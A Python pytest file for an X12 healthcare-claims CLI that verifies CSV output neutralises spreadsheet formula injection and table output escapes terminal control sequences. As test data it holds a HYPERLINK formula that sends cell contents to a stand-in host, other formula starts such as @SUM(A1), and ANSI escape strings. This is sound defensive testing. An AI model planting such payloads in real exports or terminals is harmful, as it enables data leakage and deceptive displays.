"""Values crafted for spreadsheets and terminals, fed through every command as real X12.

CLM01, REF*6R and payer names that start like a formula must reach ``--format csv`` as text
(a leading ``'``) while money stays numeric; control characters must reach a table escaped.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from edi_j0256.cli import cli
from edi_j0256.output import write_csv, write_table

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_claims(tmp_path: Path) -> Path:
    """The Medicare 837P fixture with a formula in CLM01, REF*6R and the payer's name."""
    text = (FIXTURES / "837p-medicare.x12").read_text()
    text = text.replace("CLM*MCR-A-1001*", f"CLM*{FORMULA}*", 1)
    text = text.replace("REF*6R*MCRA1001-01~", "REF*6R*+1~", 1)
    text = text.replace("REF*6R*MCRA1001-02~", "REF*6R*-A1~", 1)
    text = text.replace("REF*6R*MCRA1002-01~", "REF*6R*\tTAB~", 1)
    text = text.replace("NM1*PR*2*TEST MEDICARE PART B CONTRACTOR*", "NM1*PR*2*@SUM(A1)*", 1)
    path = tmp_path / "hostile-837p.x12"
    path.write_text(text)
    return path


def hostile_remits(tmp_path: Path) -> Path:
    text = (FIXTURES / "835-medicare.x12").read_text()
    text = text.replace("CLP*MCR-A-1001*", f"CLP*{FORMULA}*", 1)
    text = text.replace("N1*PR*TEST MEDICARE PART B CONTRACTOR~", "N1*PR*@SUM(A1)~", 1)
    path = tmp_path / "hostile-835.x12"
    path.write_text(text)
    return path


def rows_of(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def assert_no_live_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a real number may start with - or +
                assert cell.startswith("-"), (name, cell)


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout


def test_scan_csv_neutralises_formulas_keeps_numbers(tmp_path):
    code, out = run("scan", str(hostile_claims(tmp_path)), "--format", "csv", "-q")
    assert code == 0
    rows = rows_of(out)
    assert_no_live_formula(rows)
    first = rows[0]
    assert first["claim_id"] == "'" + FORMULA
    assert first["line_control"] == "'+1"
    assert rows[1]["line_control"] == "'-A1"
    assert first["payer_name"] == "'@SUM(A1)"
    assert first["charge"] == "2250" and first["units"] == "450"
    assert [r["line_control"] for r in rows if r["claim_id"] == "MCR-A-1002"][0] == "'\tTAB"


def test_check_csv_neutralises_formulas(tmp_path):
    text = (FIXTURES / "837p-billing-errors.x12").read_text()
    path = tmp_path / "errors.x12"
    path.write_text(text.replace("CLM*ERR-6001*", f"CLM*{FORMULA}*", 1)
                    .replace("REF*6R*ERR6001-01~", "REF*6R*@SUM(A1)~", 1))
    code, out = run("check", str(path), "--format", "csv")
    assert code in (0, 1)
    rows = rows_of(out)
    assert rows, "the Medicare fixture has findings"
    assert_no_live_formula(rows)
    hostile = [r for r in rows if r["claim_id"] == "'" + FORMULA]
    assert hostile and hostile[0]["line_control"] == "'@SUM(A1)"
    assert hostile[0]["line"] == "27" and hostile[0]["predicted_carc"] == "4"


def test_remit_csv_neutralises_formulas(tmp_path):
    code, out = run("remit", str(hostile_remits(tmp_path)), "--format", "csv", "-q")
    assert code == 0
    rows = rows_of(out)
    assert_no_live_formula(rows)
    assert "'" + FORMULA in {r["claim_id"] for r in rows}


def test_reconcile_csv_neutralises_formulas(tmp_path):
    code, out = run("reconcile", "--claims", str(hostile_claims(tmp_path)), "--remits",
                    str(hostile_remits(tmp_path)), "--format", "csv", "-q")
    assert code == 0
    rows = rows_of(out)
    assert_no_live_formula(rows)
    hostile = [r for r in rows if r["claim_id"] == "'" + FORMULA]
    assert hostile and all(r["status"] != "unmatched" for r in hostile)


def test_csv_writer_cells():
    out = io.StringIO()
    records = [{"id": "=1+1", "amount": -12.5, "text": "-A1", "list": ["@x", "JZ"],
                "neg": "-12.50", "cr": "\rX", "none": None}]
    write_csv(records, out)
    assert out.getvalue() == ('id,amount,text,list,neg,cr,none\n'
                              "'=1+1,-12.5,'-A1,'@x;JZ,-12.50,\"'\rX\",\n")


def test_table_escapes_control_characters():
    out = io.StringIO()
    write_table([{"claim_id": "A\x1b[2JB", "units": 4}], out, ["claim_id", "units"])
    assert out.getvalue() == ("claim_id   units\n"
                              "---------  -----\n"
                              "A\\x1b[2JB  4\n")


def test_scan_table_output_has_no_raw_escape(tmp_path):
    path = hostile_claims(tmp_path)
    path.write_text(path.read_text().replace("REF*6R*MCRA1001-03~", "REF*6R*X\x1b[31mRED~"))
    path.write_text(path.read_text().replace("CLM*MCR-A-1002*", "CLM*B\x1b]0;pwn\x07*", 1))
    code, out = run("scan", str(path), "--format", "table", "-q")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "B\\x1b]0;pwn\\x07" in out


@pytest.mark.parametrize("value", ["=1", "+1", "-A1", "@SUM(A1)", "\tX", "\rX"])
def test_every_formula_start_neutralised(value):
    out = io.StringIO()
    write_csv([{"v": value}], out)
    assert rows_of(out.getvalue())[0]["v"] == "'" + value
